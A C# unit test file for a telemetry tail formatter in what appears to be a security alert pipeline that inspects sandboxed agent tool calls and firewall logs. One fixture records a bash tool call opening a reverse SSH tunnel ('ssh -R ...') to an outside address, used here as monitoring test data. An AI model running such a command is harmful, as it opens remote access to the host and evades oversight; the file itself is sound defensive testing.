using AlertPipeline.Shipper.Inspect;
using Azure.Messaging.EventHubs;

namespace AlertPipeline.Shipper.Tests.Inspect;

public sealed class TailFormatterTests
{
    private static EventData Received(string body, long sequence = 42, string? partitionKey = "sbx-7")
        => EventHubsModelFactory.EventData(new BinaryData(body), partitionKey: partitionKey, sequenceNumber: sequence, offsetString: "0",
            enqueuedTime: new DateTimeOffset(2025, 11, 14, 3, 20, 6, TimeSpan.Zero));

    [Fact]
    public void An_ecs_event_is_shown_with_its_format_and_fields()
    {
        var text = new TailFormatter().Format("sandbox-telemetry", "3", Received(
            """{"@timestamp":"2025-11-14T03:20:04Z","event":{"kind":"event","dataset":"sandbox.tool_call"},"sandbox":{"id":"sbx-7"},"tool":{"name":"bash","input":"ssh -R 2222:localhost:22 x@203.0.113.66"}}"""));

        Assert.StartsWith("partition 3 seq 42 enqueued 2025-11-14T03:20:06.000Z key sbx-7 ", text, StringComparison.Ordinal);
        Assert.Contains("ecs, 1 event, 0 rejected", text, StringComparison.Ordinal);
        Assert.Contains(" event.dataset=sandbox.tool_call", text, StringComparison.Ordinal);
        Assert.Contains(" sandbox.id=sbx-7", text, StringComparison.Ordinal);
        Assert.Contains(" tool.input=ssh -R 2222:localhost:22 x@203.0.113.66", text, StringComparison.Ordinal);
    }

    [Fact]
    public void A_body_in_no_known_format_is_shown_with_the_reason_the_pipeline_gives()
    {
        var text = new TailFormatter().Format("sandbox-telemetry", "0", Received("hello\u001b[31m world"));

        Assert.Contains("unknown format, 0 events, 1 rejected", text, StringComparison.Ordinal);
        Assert.Contains("rejected #0 (unknown): unknown-format:", text, StringComparison.Ordinal);
        // Terminal escape sequences from telemetry never reach the terminal.
        Assert.DoesNotContain('\u001b', text);
    }

    [Fact]
    public void A_malformed_event_shows_the_parse_error_and_the_events_that_did_parse()
    {
        var text = new TailFormatter().Format("firewall-logs", "1", Received(
            """{"records":[{"category":"AZFWNetworkRule","time":"2025-11-14T03:11:06.7446050Z","properties":{"Protocol":"TCP","SourceIp":"10.40.77.32","SourcePort":52995,"DestinationIp":"10.40.78.33","DestinationPort":29500,"Action":"Allow"}},{"category":"AZFWNetworkRule","properties":{}}]}""",
            partitionKey: null));

        Assert.Contains("azure-firewall, 1 event, 1 rejected", text, StringComparison.Ordinal);
        Assert.Contains(" source.ip=10.40.77.32", text, StringComparison.Ordinal);
        Assert.Contains("rejected #1 (azure-firewall)", text, StringComparison.Ordinal);
        Assert.DoesNotContain(" key ", text.Split('\n')[0], StringComparison.Ordinal);
    }
}
